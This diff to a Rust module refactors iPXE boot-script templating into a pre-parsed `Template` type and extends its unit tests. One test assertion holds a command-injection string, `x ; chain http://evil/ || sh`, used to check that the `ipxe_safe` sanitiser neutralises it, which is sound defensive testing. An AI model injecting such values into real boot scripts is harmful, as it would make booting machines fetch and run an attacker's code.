@@ -1,43 +1,77 @@
 //! iPXE scripts rendered from the templates in `pxe/` (built into the binary).
 //! `{{name}}` is replaced; an unknown name is left as is so a typo shows.
 
-pub(crate) const MACHINE: &str = include_str!("../../../pxe/machine.ipxe");
-pub(crate) const CHAIN: &str = include_str!("../../../pxe/chain.ipxe");
-pub(crate) const UNKNOWN: &str = include_str!("../../../pxe/unknown.ipxe");
+use std::sync::LazyLock;
+
+pub(crate) static MACHINE: LazyLock<Template> =
+    LazyLock::new(|| Template::parse(include_str!("../../../pxe/machine.ipxe")));
+pub(crate) static CHAIN: LazyLock<Template> =
+    LazyLock::new(|| Template::parse(include_str!("../../../pxe/chain.ipxe")));
+pub(crate) static UNKNOWN: LazyLock<Template> =
+    LazyLock::new(|| Template::parse(include_str!("../../../pxe/unknown.ipxe")));
 /// With `[ipxe_signing]`: the same steps, each fetched script and file
 /// checked with `imgverify` against its `.sig`.
-pub(crate) const MACHINE_SIGNED: &str = include_str!("../../../pxe/machine-signed.ipxe");
-pub(crate) const CHAIN_SIGNED: &str = include_str!("../../../pxe/chain-signed.ipxe");
-pub(crate) const UNKNOWN_SIGNED: &str = include_str!("../../../pxe/unknown-signed.ipxe");
+pub(crate) static MACHINE_SIGNED: LazyLock<Template> =
+    LazyLock::new(|| Template::parse(include_str!("../../../pxe/machine-signed.ipxe")));
+pub(crate) static CHAIN_SIGNED: LazyLock<Template> =
+    LazyLock::new(|| Template::parse(include_str!("../../../pxe/chain-signed.ipxe")));
+pub(crate) static UNKNOWN_SIGNED: LazyLock<Template> =
+    LazyLock::new(|| Template::parse(include_str!("../../../pxe/unknown-signed.ipxe")));
 /// What a failed `imgverify` does in [`MACHINE_SIGNED`]: a group with
 /// `verify = true` refuses to boot; others boot on (an iPXE that verifies
 /// still refuses to run what it could not check).
 pub(crate) const ON_UNVERIFIED_REFUSE: &str = "goto refuse";
 pub(crate) const ON_UNVERIFIED_WARN: &str = "echo imgd: signature not checked";
 
-pub(crate) fn render(template: &str, vars: &[(&str, &str)]) -> String {
-    let mut out = String::with_capacity(template.len() + 256);
-    let mut rest = template;
-    while let Some(i) = rest.find("{{") {
-        out.push_str(&rest[..i]);
-        let after = &rest[i + 2..];
-        match after.find("}}") {
-            Some(j) => {
-                let name = after[..j].trim();
-                match vars.iter().find(|(k, _)| *k == name) {
-                    Some((_, v)) => out.push_str(v),
-                    None => out.push_str(&rest[i..i + 2 + j + 2]),
-                }
-                rest = &after[j + 2..];
+/// A template cut once, at start-up, into its text and its `{{name}}`s: a
+/// render is then a walk over the pieces, no search (a script is rendered
+/// for every booting machine, as often as a static file is sent).
+pub(crate) struct Template {
+    parts: Vec<Part>,
+    text_len: usize,
+}
+
+enum Part {
+    Text(&'static str),
+    /// The name, and the placeholder as written (kept when no value is given).
+    Var(&'static str, &'static str),
+}
+
+impl Template {
+    pub(crate) fn parse(template: &'static str) -> Template {
+        let mut parts = Vec::new();
+        let mut rest = template;
+        while let Some(i) = rest.find("{{") {
+            let Some(j) = rest[i + 2..].find("}}") else { break };
+            if i > 0 {
+                parts.push(Part::Text(&rest[..i]));
             }
-            None => {
-                out.push_str(&rest[i..]);
-                rest = "";
+            let written = &rest[i..i + 2 + j + 2];
+            parts.push(Part::Var(rest[i + 2..i + 2 + j].trim(), written));
+            rest = &rest[i + 2 + j + 2..];
+        }
+        if !rest.is_empty() {
+            parts.push(Part::Text(rest));
+        }
+        let text_len = parts.iter().map(|p| if let Part::Text(t) = p { t.len() } else { 0 }).sum();
+        Template { parts, text_len }
+    }
+
+    /// The template with each `{{name}}` replaced by its value in `vars`; an
+    /// unknown name is left as written so a typo shows.
+    pub(crate) fn render(&self, vars: &[(&str, &str)]) -> String {
+        let mut out = String::with_capacity(self.text_len + vars.iter().map(|(_, v)| v.len()).sum::<usize>());
+        for p in &self.parts {
+            match p {
+                Part::Text(t) => out.push_str(t),
+                Part::Var(name, written) => match vars.iter().find(|(k, _)| k == name) {
+                    Some((_, v)) => out.push_str(v),
+                    None => out.push_str(written),
+                },
             }
         }
+        out
     }
-    out.push_str(rest);
-    out
 }
 
 /// Makes a value safe inside an iPXE script line: printable ASCII only (no
@@ -57,7 +91,10 @@ mod tests {
 
     #[test]
     fn renders_and_keeps_unknown_names() {
-        assert_eq!(render("a {{x}} b {{ y }} {{z}}", &[("x", "1"), ("y", "2")]), "a 1 b 2 {{z}}");
+        let t = Template::parse("a {{x}} b {{ y }} {{z}}{{x}}, {{ unclosed");
+        assert_eq!(t.render(&[("x", "1"), ("y", "2")]), "a 1 b 2 {{z}}1, {{ unclosed");
+        assert_eq!(Template::parse("").render(&[]), "");
+        assert_eq!(Template::parse("{{x}}").render(&[("x", "only")]), "only");
         assert_eq!(ipxe_safe("a\nb${x}"), "ab_{x}");
         assert_eq!(ipxe_safe("x ; chain http://evil/ || sh"), "x _ chain http://evil/ __ sh");
         assert_eq!(ipxe_safe("é\u{7f}"), "_");
